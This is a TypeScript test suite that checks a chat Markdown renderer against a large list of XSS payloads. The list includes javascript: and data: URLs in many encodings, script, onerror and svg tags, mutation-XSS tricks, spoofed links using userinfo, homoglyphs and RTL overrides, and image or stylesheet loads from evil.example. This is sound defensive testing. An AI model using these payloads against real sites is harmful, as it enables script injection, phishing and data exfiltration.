import { expect } from 'chai';
import fc from 'fast-check';
import { atOnce, cut, hostStub, streamed } from './support/markdown.js';

/** What runs when a payload got through. */
const SCRIPT = 'window.__pwned=(window.__pwned||0)+1';
const EVIL = 'https://evil.example';

/** Addresses that must not become links, or not misleading ones. */
const ADDRESSES = [
  `javascript:${SCRIPT}`,
  `JaVaScRiPt:${SCRIPT}`,
  `javascript&colon;${SCRIPT}`,
  `javascript&#58;${SCRIPT}`,
  `&#106;avascript:${SCRIPT}`,
  `&#x6A;avascript:${SCRIPT}`,
  `java&#9;script:${SCRIPT}`,
  `java&#10;script:${SCRIPT}`,
  `&#1;javascript:${SCRIPT}`,
  `\u0001javascript:${SCRIPT}`,
  `java\u0000script:${SCRIPT}`,
  `java\\script:${SCRIPT}`,
  `javascript\\:${SCRIPT}`,
  `javascript://evil.example/%0a${SCRIPT}`,
  `<java\tscript:${SCRIPT}>`,
  `< javascript:${SCRIPT}>`,
  `vbscript:msgbox`,
  `data:text/html,<script>${SCRIPT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg/onload=${SCRIPT}>`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
  `filesystem:https://evil.example/x`,
  `intent://evil.example#Intent;end`,
  `view-source:https://evil.example`,
  `ws://evil.example`,
  `//evil.example/a`,
  `\\\\evil.example\\a`,
  `/\\evil.example/a`,
  `\\/evil.example/a`,
  `https:\\\\evil.example`,
  `https:/evil.example`,
  `https:evil.example`,
  `https://example.com@evil.example/`,
  `https://example.com%2f@evil.example/`,
  `https://example.com:pass@evil.example/`,
  `https://example.com\u202egpj.evil.example/`,
  `https://ex\u0430mple.com/`,
  `https://evil.example/a.png?q=secret`,
  `ftp://evil.example/x`,
];

/** Every form in which an address can be written. */
const FORMS: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[example.com](${address} "title")`,
  (address) => `![alt](${address})`,
  (address) => `[click][ref]\n\n[ref]: ${address}\n`,
  (address) => `![alt][ref] and ![ref][] and ![ref]\n\n[ref]: ${address} 'x'\n`,
  (address) => `<${address}>`,
  (address) => `[![nested ![deep](${address})](${address})](${address})`,
];

const HTML = [
  `<script>${SCRIPT}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<img src=x onerror="${SCRIPT}">`,
  `<img src="${EVIL}/pixel.png">`,
  `<IMG """><SCRIPT>${SCRIPT}</SCRIPT>">`,
  `<svg onload="${SCRIPT}"></svg>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src onerror=${SCRIPT}>`,
  `<math href="javascript:${SCRIPT}">x</math>`,
  `<iframe src="javascript:parent.${SCRIPT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
  `<object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<video src="${EVIL}/v" onerror="${SCRIPT}" autoplay></video>`,
  `<audio src="${EVIL}/a"></audio><source srcset="${EVIL}/b">`,
  `<body onload="${SCRIPT}">`,
  `<details open ontoggle="${SCRIPT}">x</details>`,
  `<input autofocus onfocus="${SCRIPT}">`,
  `<form action="${EVIL}"><button>Log in</button></form>`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<style>@import url(${EVIL}/x.css);</style>`,
  `<style>* { background: url(${EVIL}/y) }</style>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href="${EVIL}">`,
  `<template><img src=x onerror="${SCRIPT}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<!--><img src=x onerror="${SCRIPT}">-->`,
  `<!-- --!><script>${SCRIPT}</script> -->`,
  `<![CDATA[<script>${SCRIPT}</script>]]>`,
  `<?xml-stylesheet href="${EVIL}"?>`,
  `<a href="javascript:${SCRIPT}" id=location name=cookie style="position:fixed;inset:0">x</a>`,
  `<p id="body" name="documentElement" class="chat-stream" style="color:red" slot=x part=input>x</p>`,
  `<chat-stream endpoint="${EVIL}"></chat-stream>`,
  `<div\nonmouseover="${SCRIPT}"\n>x</div>`,
  `<x/onclick=${SCRIPT}>y</x>`,
  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
  `&#60;img src=x onerror=${SCRIPT}&#62;`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `\`<img src=x onerror=${SCRIPT}>\``,
  `**<img src=x onerror=${SCRIPT}>**`,
];

const SHAPES = [
  '```"><img src=x onerror=' + SCRIPT + '>\ncode\n```',
  '```constructor\ncode\n```',
  '```__proto__\ncode\n```',
  '~~~../../evil class=x onclick=y\ncode\n~~~',
  '```js" onmouseover="' + SCRIPT + '\ncode\n```',
  '[__proto__]: javascript:x\n\n[__proto__] [constructor] [toString] [hasOwnProperty][]',
  '[constructor]: https://evil.example\n\n[constructor]',
  '[toString][constructor] ![__proto__][valueOf]',
  '&constructor; &__proto__; &toString; &hasOwnProperty;',
  `| a <img src=x onerror=${SCRIPT}> | b |\n|---|---|\n| [x](javascript:${SCRIPT}) | ![y](${EVIL}/t.png) |`,
  `| a |\n| :-: " onclick="x |\n`,
  `- [x] <img src=x onerror=${SCRIPT}>\n- [ ] ![y](${EVIL}/u.png)`,
  `1000000000. x\n\n999999999" onclick=x. y\n\n99999999. z`,
  `> ![q](${EVIL}/q.png)\n> <script>${SCRIPT}</script>`,
  `# ![h](${EVIL}/h.png "a" onerror=${SCRIPT})`,
  `[a](${EVIL} "\\"><img src=x onerror=${SCRIPT}>")`,
  `![" onerror="${SCRIPT}](${EVIL}/z)`,
  `![\`"><img src=x onerror=${SCRIPT}>\`](${EVIL}/z)`,
  `[a](<javascript:${SCRIPT}>)`,
  `[a](\n  javascript:${SCRIPT}\n)`,
  `[a]( javascript:${SCRIPT})`,
  `[https://good.example](${EVIL})`,
  `[good.example](${EVIL}/path)`,
  `[good.example/evil.example](${EVIL}/path)`,
  `[https://good.example@evil.example](https://good.example@evil.example)`,
  `https://good.example@evil.example/x`,
  `www.evil.example" onclick="x`,
  `http://evil.example/<script>${SCRIPT}</script>`,
  `mailto:x@evil.example?body=<script>`,
  `a@b.c"onclick="x`,
  'user\u202etxt.exe \u2066hidden\u2069 \u{e0069}\u{e0067}\u{e006e}',
  '[\u202emoc.elpmaxe](https://evil.example)',
  '`\u202ecode\u{e0041}`\n\n```\n\u202ecode\u{e0041}\n```',
  'a\u0000b [\u0000](\u0000) ![\u0000][\u0000]',
  '\ud800 [\udfff](\ud83d) ![\ud800](https://evil.example/\udc00)',
  '[\ud800]: https://evil.example/\ud800\n\n[\ud800]',
  '\\<script>x</script> \\[a](javascript:x) \\![a](https://evil.example/i.png)',
  '$\\href{javascript:x}{y}$ and \\(\\includegraphics{https://evil.example/k}\\)',
];

const PAYLOADS = [...ADDRESSES.flatMap((address) => FORMS.map((form) => form(address))), ...HTML, ...SHAPES];

const ELEMENTS =
  'a bdi blockquote br button caption code del div em h1 h2 h3 h4 h5 h6 hr img input li ol p pre span strong table tbody td th thead tr ul'.split(
    ' ',
  );
const ATTRIBUTES: Readonly<Record<string, RegExp>> = {
  href: /^/,
  title: /^/,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow$/,
  class: /^(?:host|chip|bar|rest|task|block|math|text-button|hidden-mark)$/,
  part: /^(?:link|table|code|block|math|copy|image|affix|link-host|code-bar|table-bar| )+$/,
  'data-tip': /^$/,
  dir: /^(?:auto|ltr)$/,
  start: /^\d{1,9}$/,
  align: /^(?:left|center|right)$/,
  type: /^(?:button|checkbox)$/,
  checked: /^$/,
  disabled: /^$/,
  tabindex: /^0$/,
};

/** What is wrong with what an answer became. */
function faults(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const name = element.localName;
    if (!ELEMENTS.includes(name) || name === 'img') found.push(`<${name}>`);
    for (const { name: attribute, value } of element.attributes)
      if (ATTRIBUTES[attribute]?.test(value) !== true) found.push(`${name} ${attribute}=${value}`);
    if (element instanceof HTMLAnchorElement && element.hasAttribute('href')) found.push(...faultsOf(element));
  }
  return found;
}

function faultsOf(link: HTMLAnchorElement): string[] {
  const { protocol, host, pathname } = link;
  const found: string[] = [];
  if (!/^(?:https?|mailto|tel):$/.test(protocol)) found.push(`a link to ${link.href}`);
  if (link.target !== '_blank' || link.rel !== 'noopener noreferrer nofollow')
    found.push(`target or rel of ${link.href}`);
  const place = host === '' ? pathname : host;
  const isOwn = host === location.host;
  if (!isOwn && !link.textContent.includes(place.replace(/^www\./, '')))
    found.push(`${link.href} does not say ${place}`);
  // Text that looks like the address of another host must be followed by the real one.
  const said = /^(?:https?:\/\/)?([\w.-]+\.(?:com|example))\b/.exec(link.textContent)?.[1];
  if (
    said !== undefined &&
    said !== host &&
    !isOwn &&
    !link.textContent.includes(`(${place})`) &&
    !link.textContent.includes(`@${host}`)
  )
    found.push(`${link.textContent} leads to ${host}`);
  return found;
}

describe('A hostile Markdown answer', () => {
  const violations: string[] = [];
  const requests: string[] = [];
  let dialogs = 0;

  before(() => {
    // What would be loaded is refused, and reported.
    const policy = document.createElement('meta');
    policy.httpEquiv = 'Content-Security-Policy';
    policy.content = `img-src 'none'; media-src 'none'; object-src 'none'; frame-src 'none'; style-src-elem 'none'; script-src-attr 'none'; base-uri 'none'; form-action 'none'`;
    document.head.append(policy);
    document.addEventListener('securitypolicyviolation', ({ blockedURI, violatedDirective }) =>
      violations.push(`${violatedDirective} ${blockedURI}`),
    );
    for (const name of ['alert', 'confirm', 'prompt', 'open'] as const)
      Object.assign(window, { [name]: () => void dialogs++ });
  });

  it('runs nothing, loads nothing, and becomes only elements and attributes of the list', async () => {
    expect(PAYLOADS.length).to.be.at.least(150);
    const seed = Date.now();
    const observer = new PerformanceObserver((list) => requests.push(...list.getEntries().map(({ name }) => name)));
    observer.observe({ type: 'resource' });
    const globals = Object.keys(window).sort().join();
    const host = hostStub({ imageHosts: () => ['images.example', '*.cdn.example'] });
    const wrong: string[] = [];
    let runs = 0;
    const check = (payload: string, pieces: readonly string[]): void => {
      const { element } = streamed(pieces, host, (content) => {
        if (content.element.parentNode === null) document.body.append(content.element);
        for (const fault of faults(content.element)) wrong.push(`${JSON.stringify(payload)}: ${fault}`);
      });
      for (const fault of faults(element)) wrong.push(`${JSON.stringify(payload)}: ${fault}`);
      for (const link of element.querySelectorAll('a'))
        link.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
      element.remove();
      runs++;
    };
    for (const payload of PAYLOADS) {
      check(payload, [payload]);
      check(payload, payload.split(''));
      for (const places of fc.sample(fc.array(fc.nat(), { minLength: 1, maxLength: 5 }), { seed, numRuns: 4 }))
        check(payload, cut(payload, places));
    }
    // Events of what was loaded or refused come as tasks.
    await new Promise((resolve) => setTimeout(resolve, 0));
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    const loads = [...observer.takeRecords().map(({ name }) => name), ...requests].filter((name) =>
      name.includes('evil'),
    );
    observer.disconnect();
    const executions = (window as unknown as { __pwned?: number }).__pwned ?? 0;
    console.info(
      `${PAYLOADS.length} payloads, ${runs} answers with splits (seed ${seed}): ${executions} executions, ${dialogs} dialogs, ` +
        `${loads.length} requests, ${violations.length} refused loads`,
    );
    expect([...new Set(wrong)].join('\n')).to.equal('');
    expect({ executions, dialogs, loads, violations }).to.deep.equal({
      executions: 0,
      dialogs: 0,
      loads: [],
      violations: [],
    });
    expect(Object.keys(window).sort().join()).to.equal(globals);
    expect(Object.keys(Object.prototype)).to.deep.equal([]);
  });

  it('shows an image only from a host that the site allows, and a chip that names the host for all others', () => {
    const host = hostStub({ imageHosts: () => ['images.example', '*.cdn.example'] });
    const sources = (text: string): string[] =>
      [...atOnce(text, host).element.querySelectorAll('img')].map(({ src }) => src);
    const allowed = ['https://images.example/a.png', 'https://a.cdn.example/b.png'];
    for (const address of allowed) {
      expect(sources(`![a](${address})`)).to.deep.equal([address]);
      expect(sources(`![a][r]\n\n[r]: ${address}`)).to.deep.equal([address]);
    }
    for (const address of [
      'https://images.example.evil.example/a.png',
      'https://evil.example/images.example',
      'https://images.example@evil.example/a.png',
      'https://cdn.example/a.png',
      'https://xcdn.example/a.png',
      'https://images.example:8443/a.png',
      '//evil.example/a.png',
      'data:image/png;base64,AAAA',
    ]) {
      for (const text of [`![a](${address})`, `![a][r]\n\n[r]: ${address}`, `[![a](${address})](https://good.example)`])
        expect(sources(text), text).to.deep.equal([]);
    }
    const chip = atOnce('![A cat](https://evil.example/cat.png)', host).element.querySelector('.chip');
    expect(chip?.textContent).to.contain('A cat').and.to.contain('evil.example');
  });

  it('marks characters that turn the text around or that nobody sees', () => {
    const { element } = atOnce(
      'a\u202eb \u{e0041}\u{e0042} `\u202ec` ![\u202ex](y) [l](https://a.example "\u202et")\n\n```\n\u2066d\n```\n',
    );
    const marked = [...element.querySelectorAll('bdi.hidden-mark')].map(({ textContent }) => textContent);
    expect(marked.slice(0, 2)).to.deep.equal(['\u202e', '\u{e0041}\u{e0042}']);
    const clone = element.cloneNode(true) as Element;
    for (const mark of clone.querySelectorAll('bdi')) mark.remove();
    for (const link of clone.querySelectorAll('a')) expect(link.title).not.to.contain('\u202e');
    expect(clone.textContent).not.to.match(/[\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u);
  });
});
